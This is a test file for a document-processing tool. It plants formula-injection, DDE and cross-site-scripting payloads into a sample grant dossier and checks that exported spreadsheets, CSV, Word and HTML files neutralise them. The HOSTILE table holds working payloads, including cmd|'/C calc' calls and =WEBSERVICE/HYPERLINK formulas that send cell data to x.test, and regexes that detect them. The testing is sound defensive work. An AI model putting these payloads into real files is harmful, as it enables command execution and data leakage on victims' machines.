/**
 * What a cell or a document says stays what it says: in no output does it become a formula, a field, mark-up or a script.
 * One dossier holds every way in; every file that the command line makes of it is looked through.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { SAMPLE, annexParts, deliberationParts, zipped } from "../../hostile/sample";
import { dossierFolder, removeFolders, run } from "../../support/run-command";

/** Words of the sample, and what stands in their place: formulas, exchanges with other programs, mark-up, scripts. */
const HOSTILE: readonly (readonly [said: string, hostile: string])[] = [
  ["Compagnie du Paravent", `=HYPERLINK("http://x.test?"&A1,"clic")`],
  ["Atelier Papier Plié", `+cmd|'/C calc'!A0`],
  ["Fanfare des Écluses", `-2+3+cmd|'/C calc'!A0`],
  ["Commune de La Ferrande", `@SUM(1+1)*cmd|'/C calc'!A0`],
  ["Commune de Saint-Aubry", `Saint-Aubry;=cmd|'/C calc'!A0`],
  ["Théâtre d'ombres au collège de Montclair", `=WEBSERVICE("http://x.test/"&A1)`],
  ["Gravure et reliure au collège de Vernoise", `DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`],
  ["Création musicale au collège Jean-Rameau", `{=1+1}`],
  ["Renouvellement du fonds jeunesse", `<img src=x onerror=alert(1)>`],
  ["Pont-Lévan", `"><script>alert(2)</script>`],
  ["Clubs formateurs", `Clubs <b onclick="alert(3)">formateurs</b>`],
  ["Sport pour tous", `Sport <script>alert(4)</script>`],
  ["Annexe 4", `=1+1|'x'<b>`],
];

const MARK_UP = /<\/?(?:script|img|b onclick|iframe|svg)\b/i;
/** What a spreadsheet takes for a formula, in a field that is no number. */
const FORMULA = /^["\s]*[=+\-@\uff1d\uff0b\uff0d\uff20](?!\d+(?:[.,]\d+)?"?$)/;
const CALLS = /cmd|WEBSERVICE|x\.test|SUM\(1\+1\)|DDE/i;

const asXml = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");

const spoilt = (text: string, write: (hostile: string) => string): string =>
  HOSTILE.reduce((all, [said, hostile]) => all.replaceAll(said, write(hostile)), text);

const spoiltParts = (parts: Record<string, string>): Uint8Array =>
  zipped(Object.fromEntries(Object.entries(parts).map(([name, xml]) => [name, spoilt(xml, asXml)])));

function dossier(): string {
  return dossierFolder({
    "annexe.xlsx": spoiltParts(annexParts()),
    "deliberation.docx": spoiltParts(deliberationParts()),
    "rapport.txt": spoilt(readFileSync(path.join(SAMPLE, "rapport.txt"), "utf8"), (hostile) => hostile),
  });
}

const textsOf = (file: string): readonly (readonly [name: string, text: string])[] =>
  Object.entries(unzipSync(readFileSync(file))).map(([name, bytes]) => [name, strFromU8(bytes)]);

afterAll(removeFolders);

test.each(["mark", "fix", "summary", "export", "overview"])(
  "%s: no formula of a workbook calls what a text says, nothing is linked to the outside",
  async (command) => {
    const copy = path.join(dossierFolder({}), "copie.xlsx");
    const args =
      command === "overview" ? ["check", dossier(), "--overview", copy] : [command, dossier(), "-o", copy];
    const { status, err } = await run(...args);
    expect([status, err]).toEqual([expect.any(Number), expect.not.stringContaining("ne prévoit pas")]);
    for (const [name, text] of textsOf(copy)) {
      const formulas = [...text.matchAll(/<(?:\w+:)?(?:f|formula\d?|definedName)\b[^>]*>([^<]*)</g)];
      expect([
        name,
        formulas.map(([, formula]) => formula).filter((formula) => CALLS.test(formula ?? "")),
      ]).toEqual([name, []]);
      expect([name, /TargetMode="External"|ddeLink|oleLink/.test(text)]).toEqual([name, false]);
      expect([name, MARK_UP.test(text)]).toEqual([name, false]);
    }
  },
);

test("open data: no field is a formula, however the file is parted into columns", async () => {
  const csv = path.join(dossierFolder({}), "donnees.csv");
  await run("export", dossier(), "--scdl", csv);
  const text = readFileSync(csv, "utf8");
  expect(text).toContain("WEBSERVICE");
  for (const separator of [",", ";", "\t"]) {
    const fields = text.split(/\r?\n/).flatMap((line) => line.split(separator));
    expect(fields.filter((field) => FORMULA.test(field))).toEqual([]);
  }
});

test("drafts for Word hold no field, no link and no part but their own", async () => {
  const file = path.join(dossierFolder({}), "projet.docx");
  await run("export", dossier(), "--drafts", file);
  const parts = textsOf(file);
  expect(parts.map(([name]) => name).sort()).toEqual([
    "[Content_Types].xml",
    "_rels/.rels",
    "docProps/core.xml",
    "word/_rels/document.xml.rels",
    "word/document.xml",
    "word/styles.xml",
  ]);
  for (const [name, text] of parts) {
    expect([name, /instrText|fldSimple|fldChar|hyperlink|External|altChunk/.test(text)]).toEqual([
      name,
      false,
    ]);
    expect([name, MARK_UP.test(text)]).toEqual([name, false]);
  }
  expect(parts.find(([name]) => name === "word/document.xml")?.[1]).toContain("alert(4)");
});

test("drafts as a page hold the mark-up that is ours, without attributes that act", async () => {
  const file = path.join(dossierFolder({}), "projet.html");
  await run("export", dossier(), "--drafts", file);
  const html = readFileSync(file, "utf8");
  expect(html).toContain("alert(4)");
  const tags = [...html.matchAll(/<\/?([a-z][a-z0-9]*)([^>]*)>/gi)];
  const names = new Set(tags.map(([, name]) => name?.toLowerCase()));
  const ours = [
    "html",
    "head",
    "meta",
    "title",
    "body",
    "h2",
    "h3",
    "p",
    "ul",
    "li",
    "b",
    "span",
    "sup",
    "br",
  ];
  const tables = ["table", "thead", "tbody", "tr", "th", "td", "colgroup", "col"];
  expect([...names].filter((name) => ![...ours, ...tables].includes(name ?? ""))).toEqual([]);
  expect(
    tags.filter(([, , attributes]) => /\bon\w+\s*=|href|src|javascript:/i.test(attributes ?? "")),
  ).toEqual([]);
});
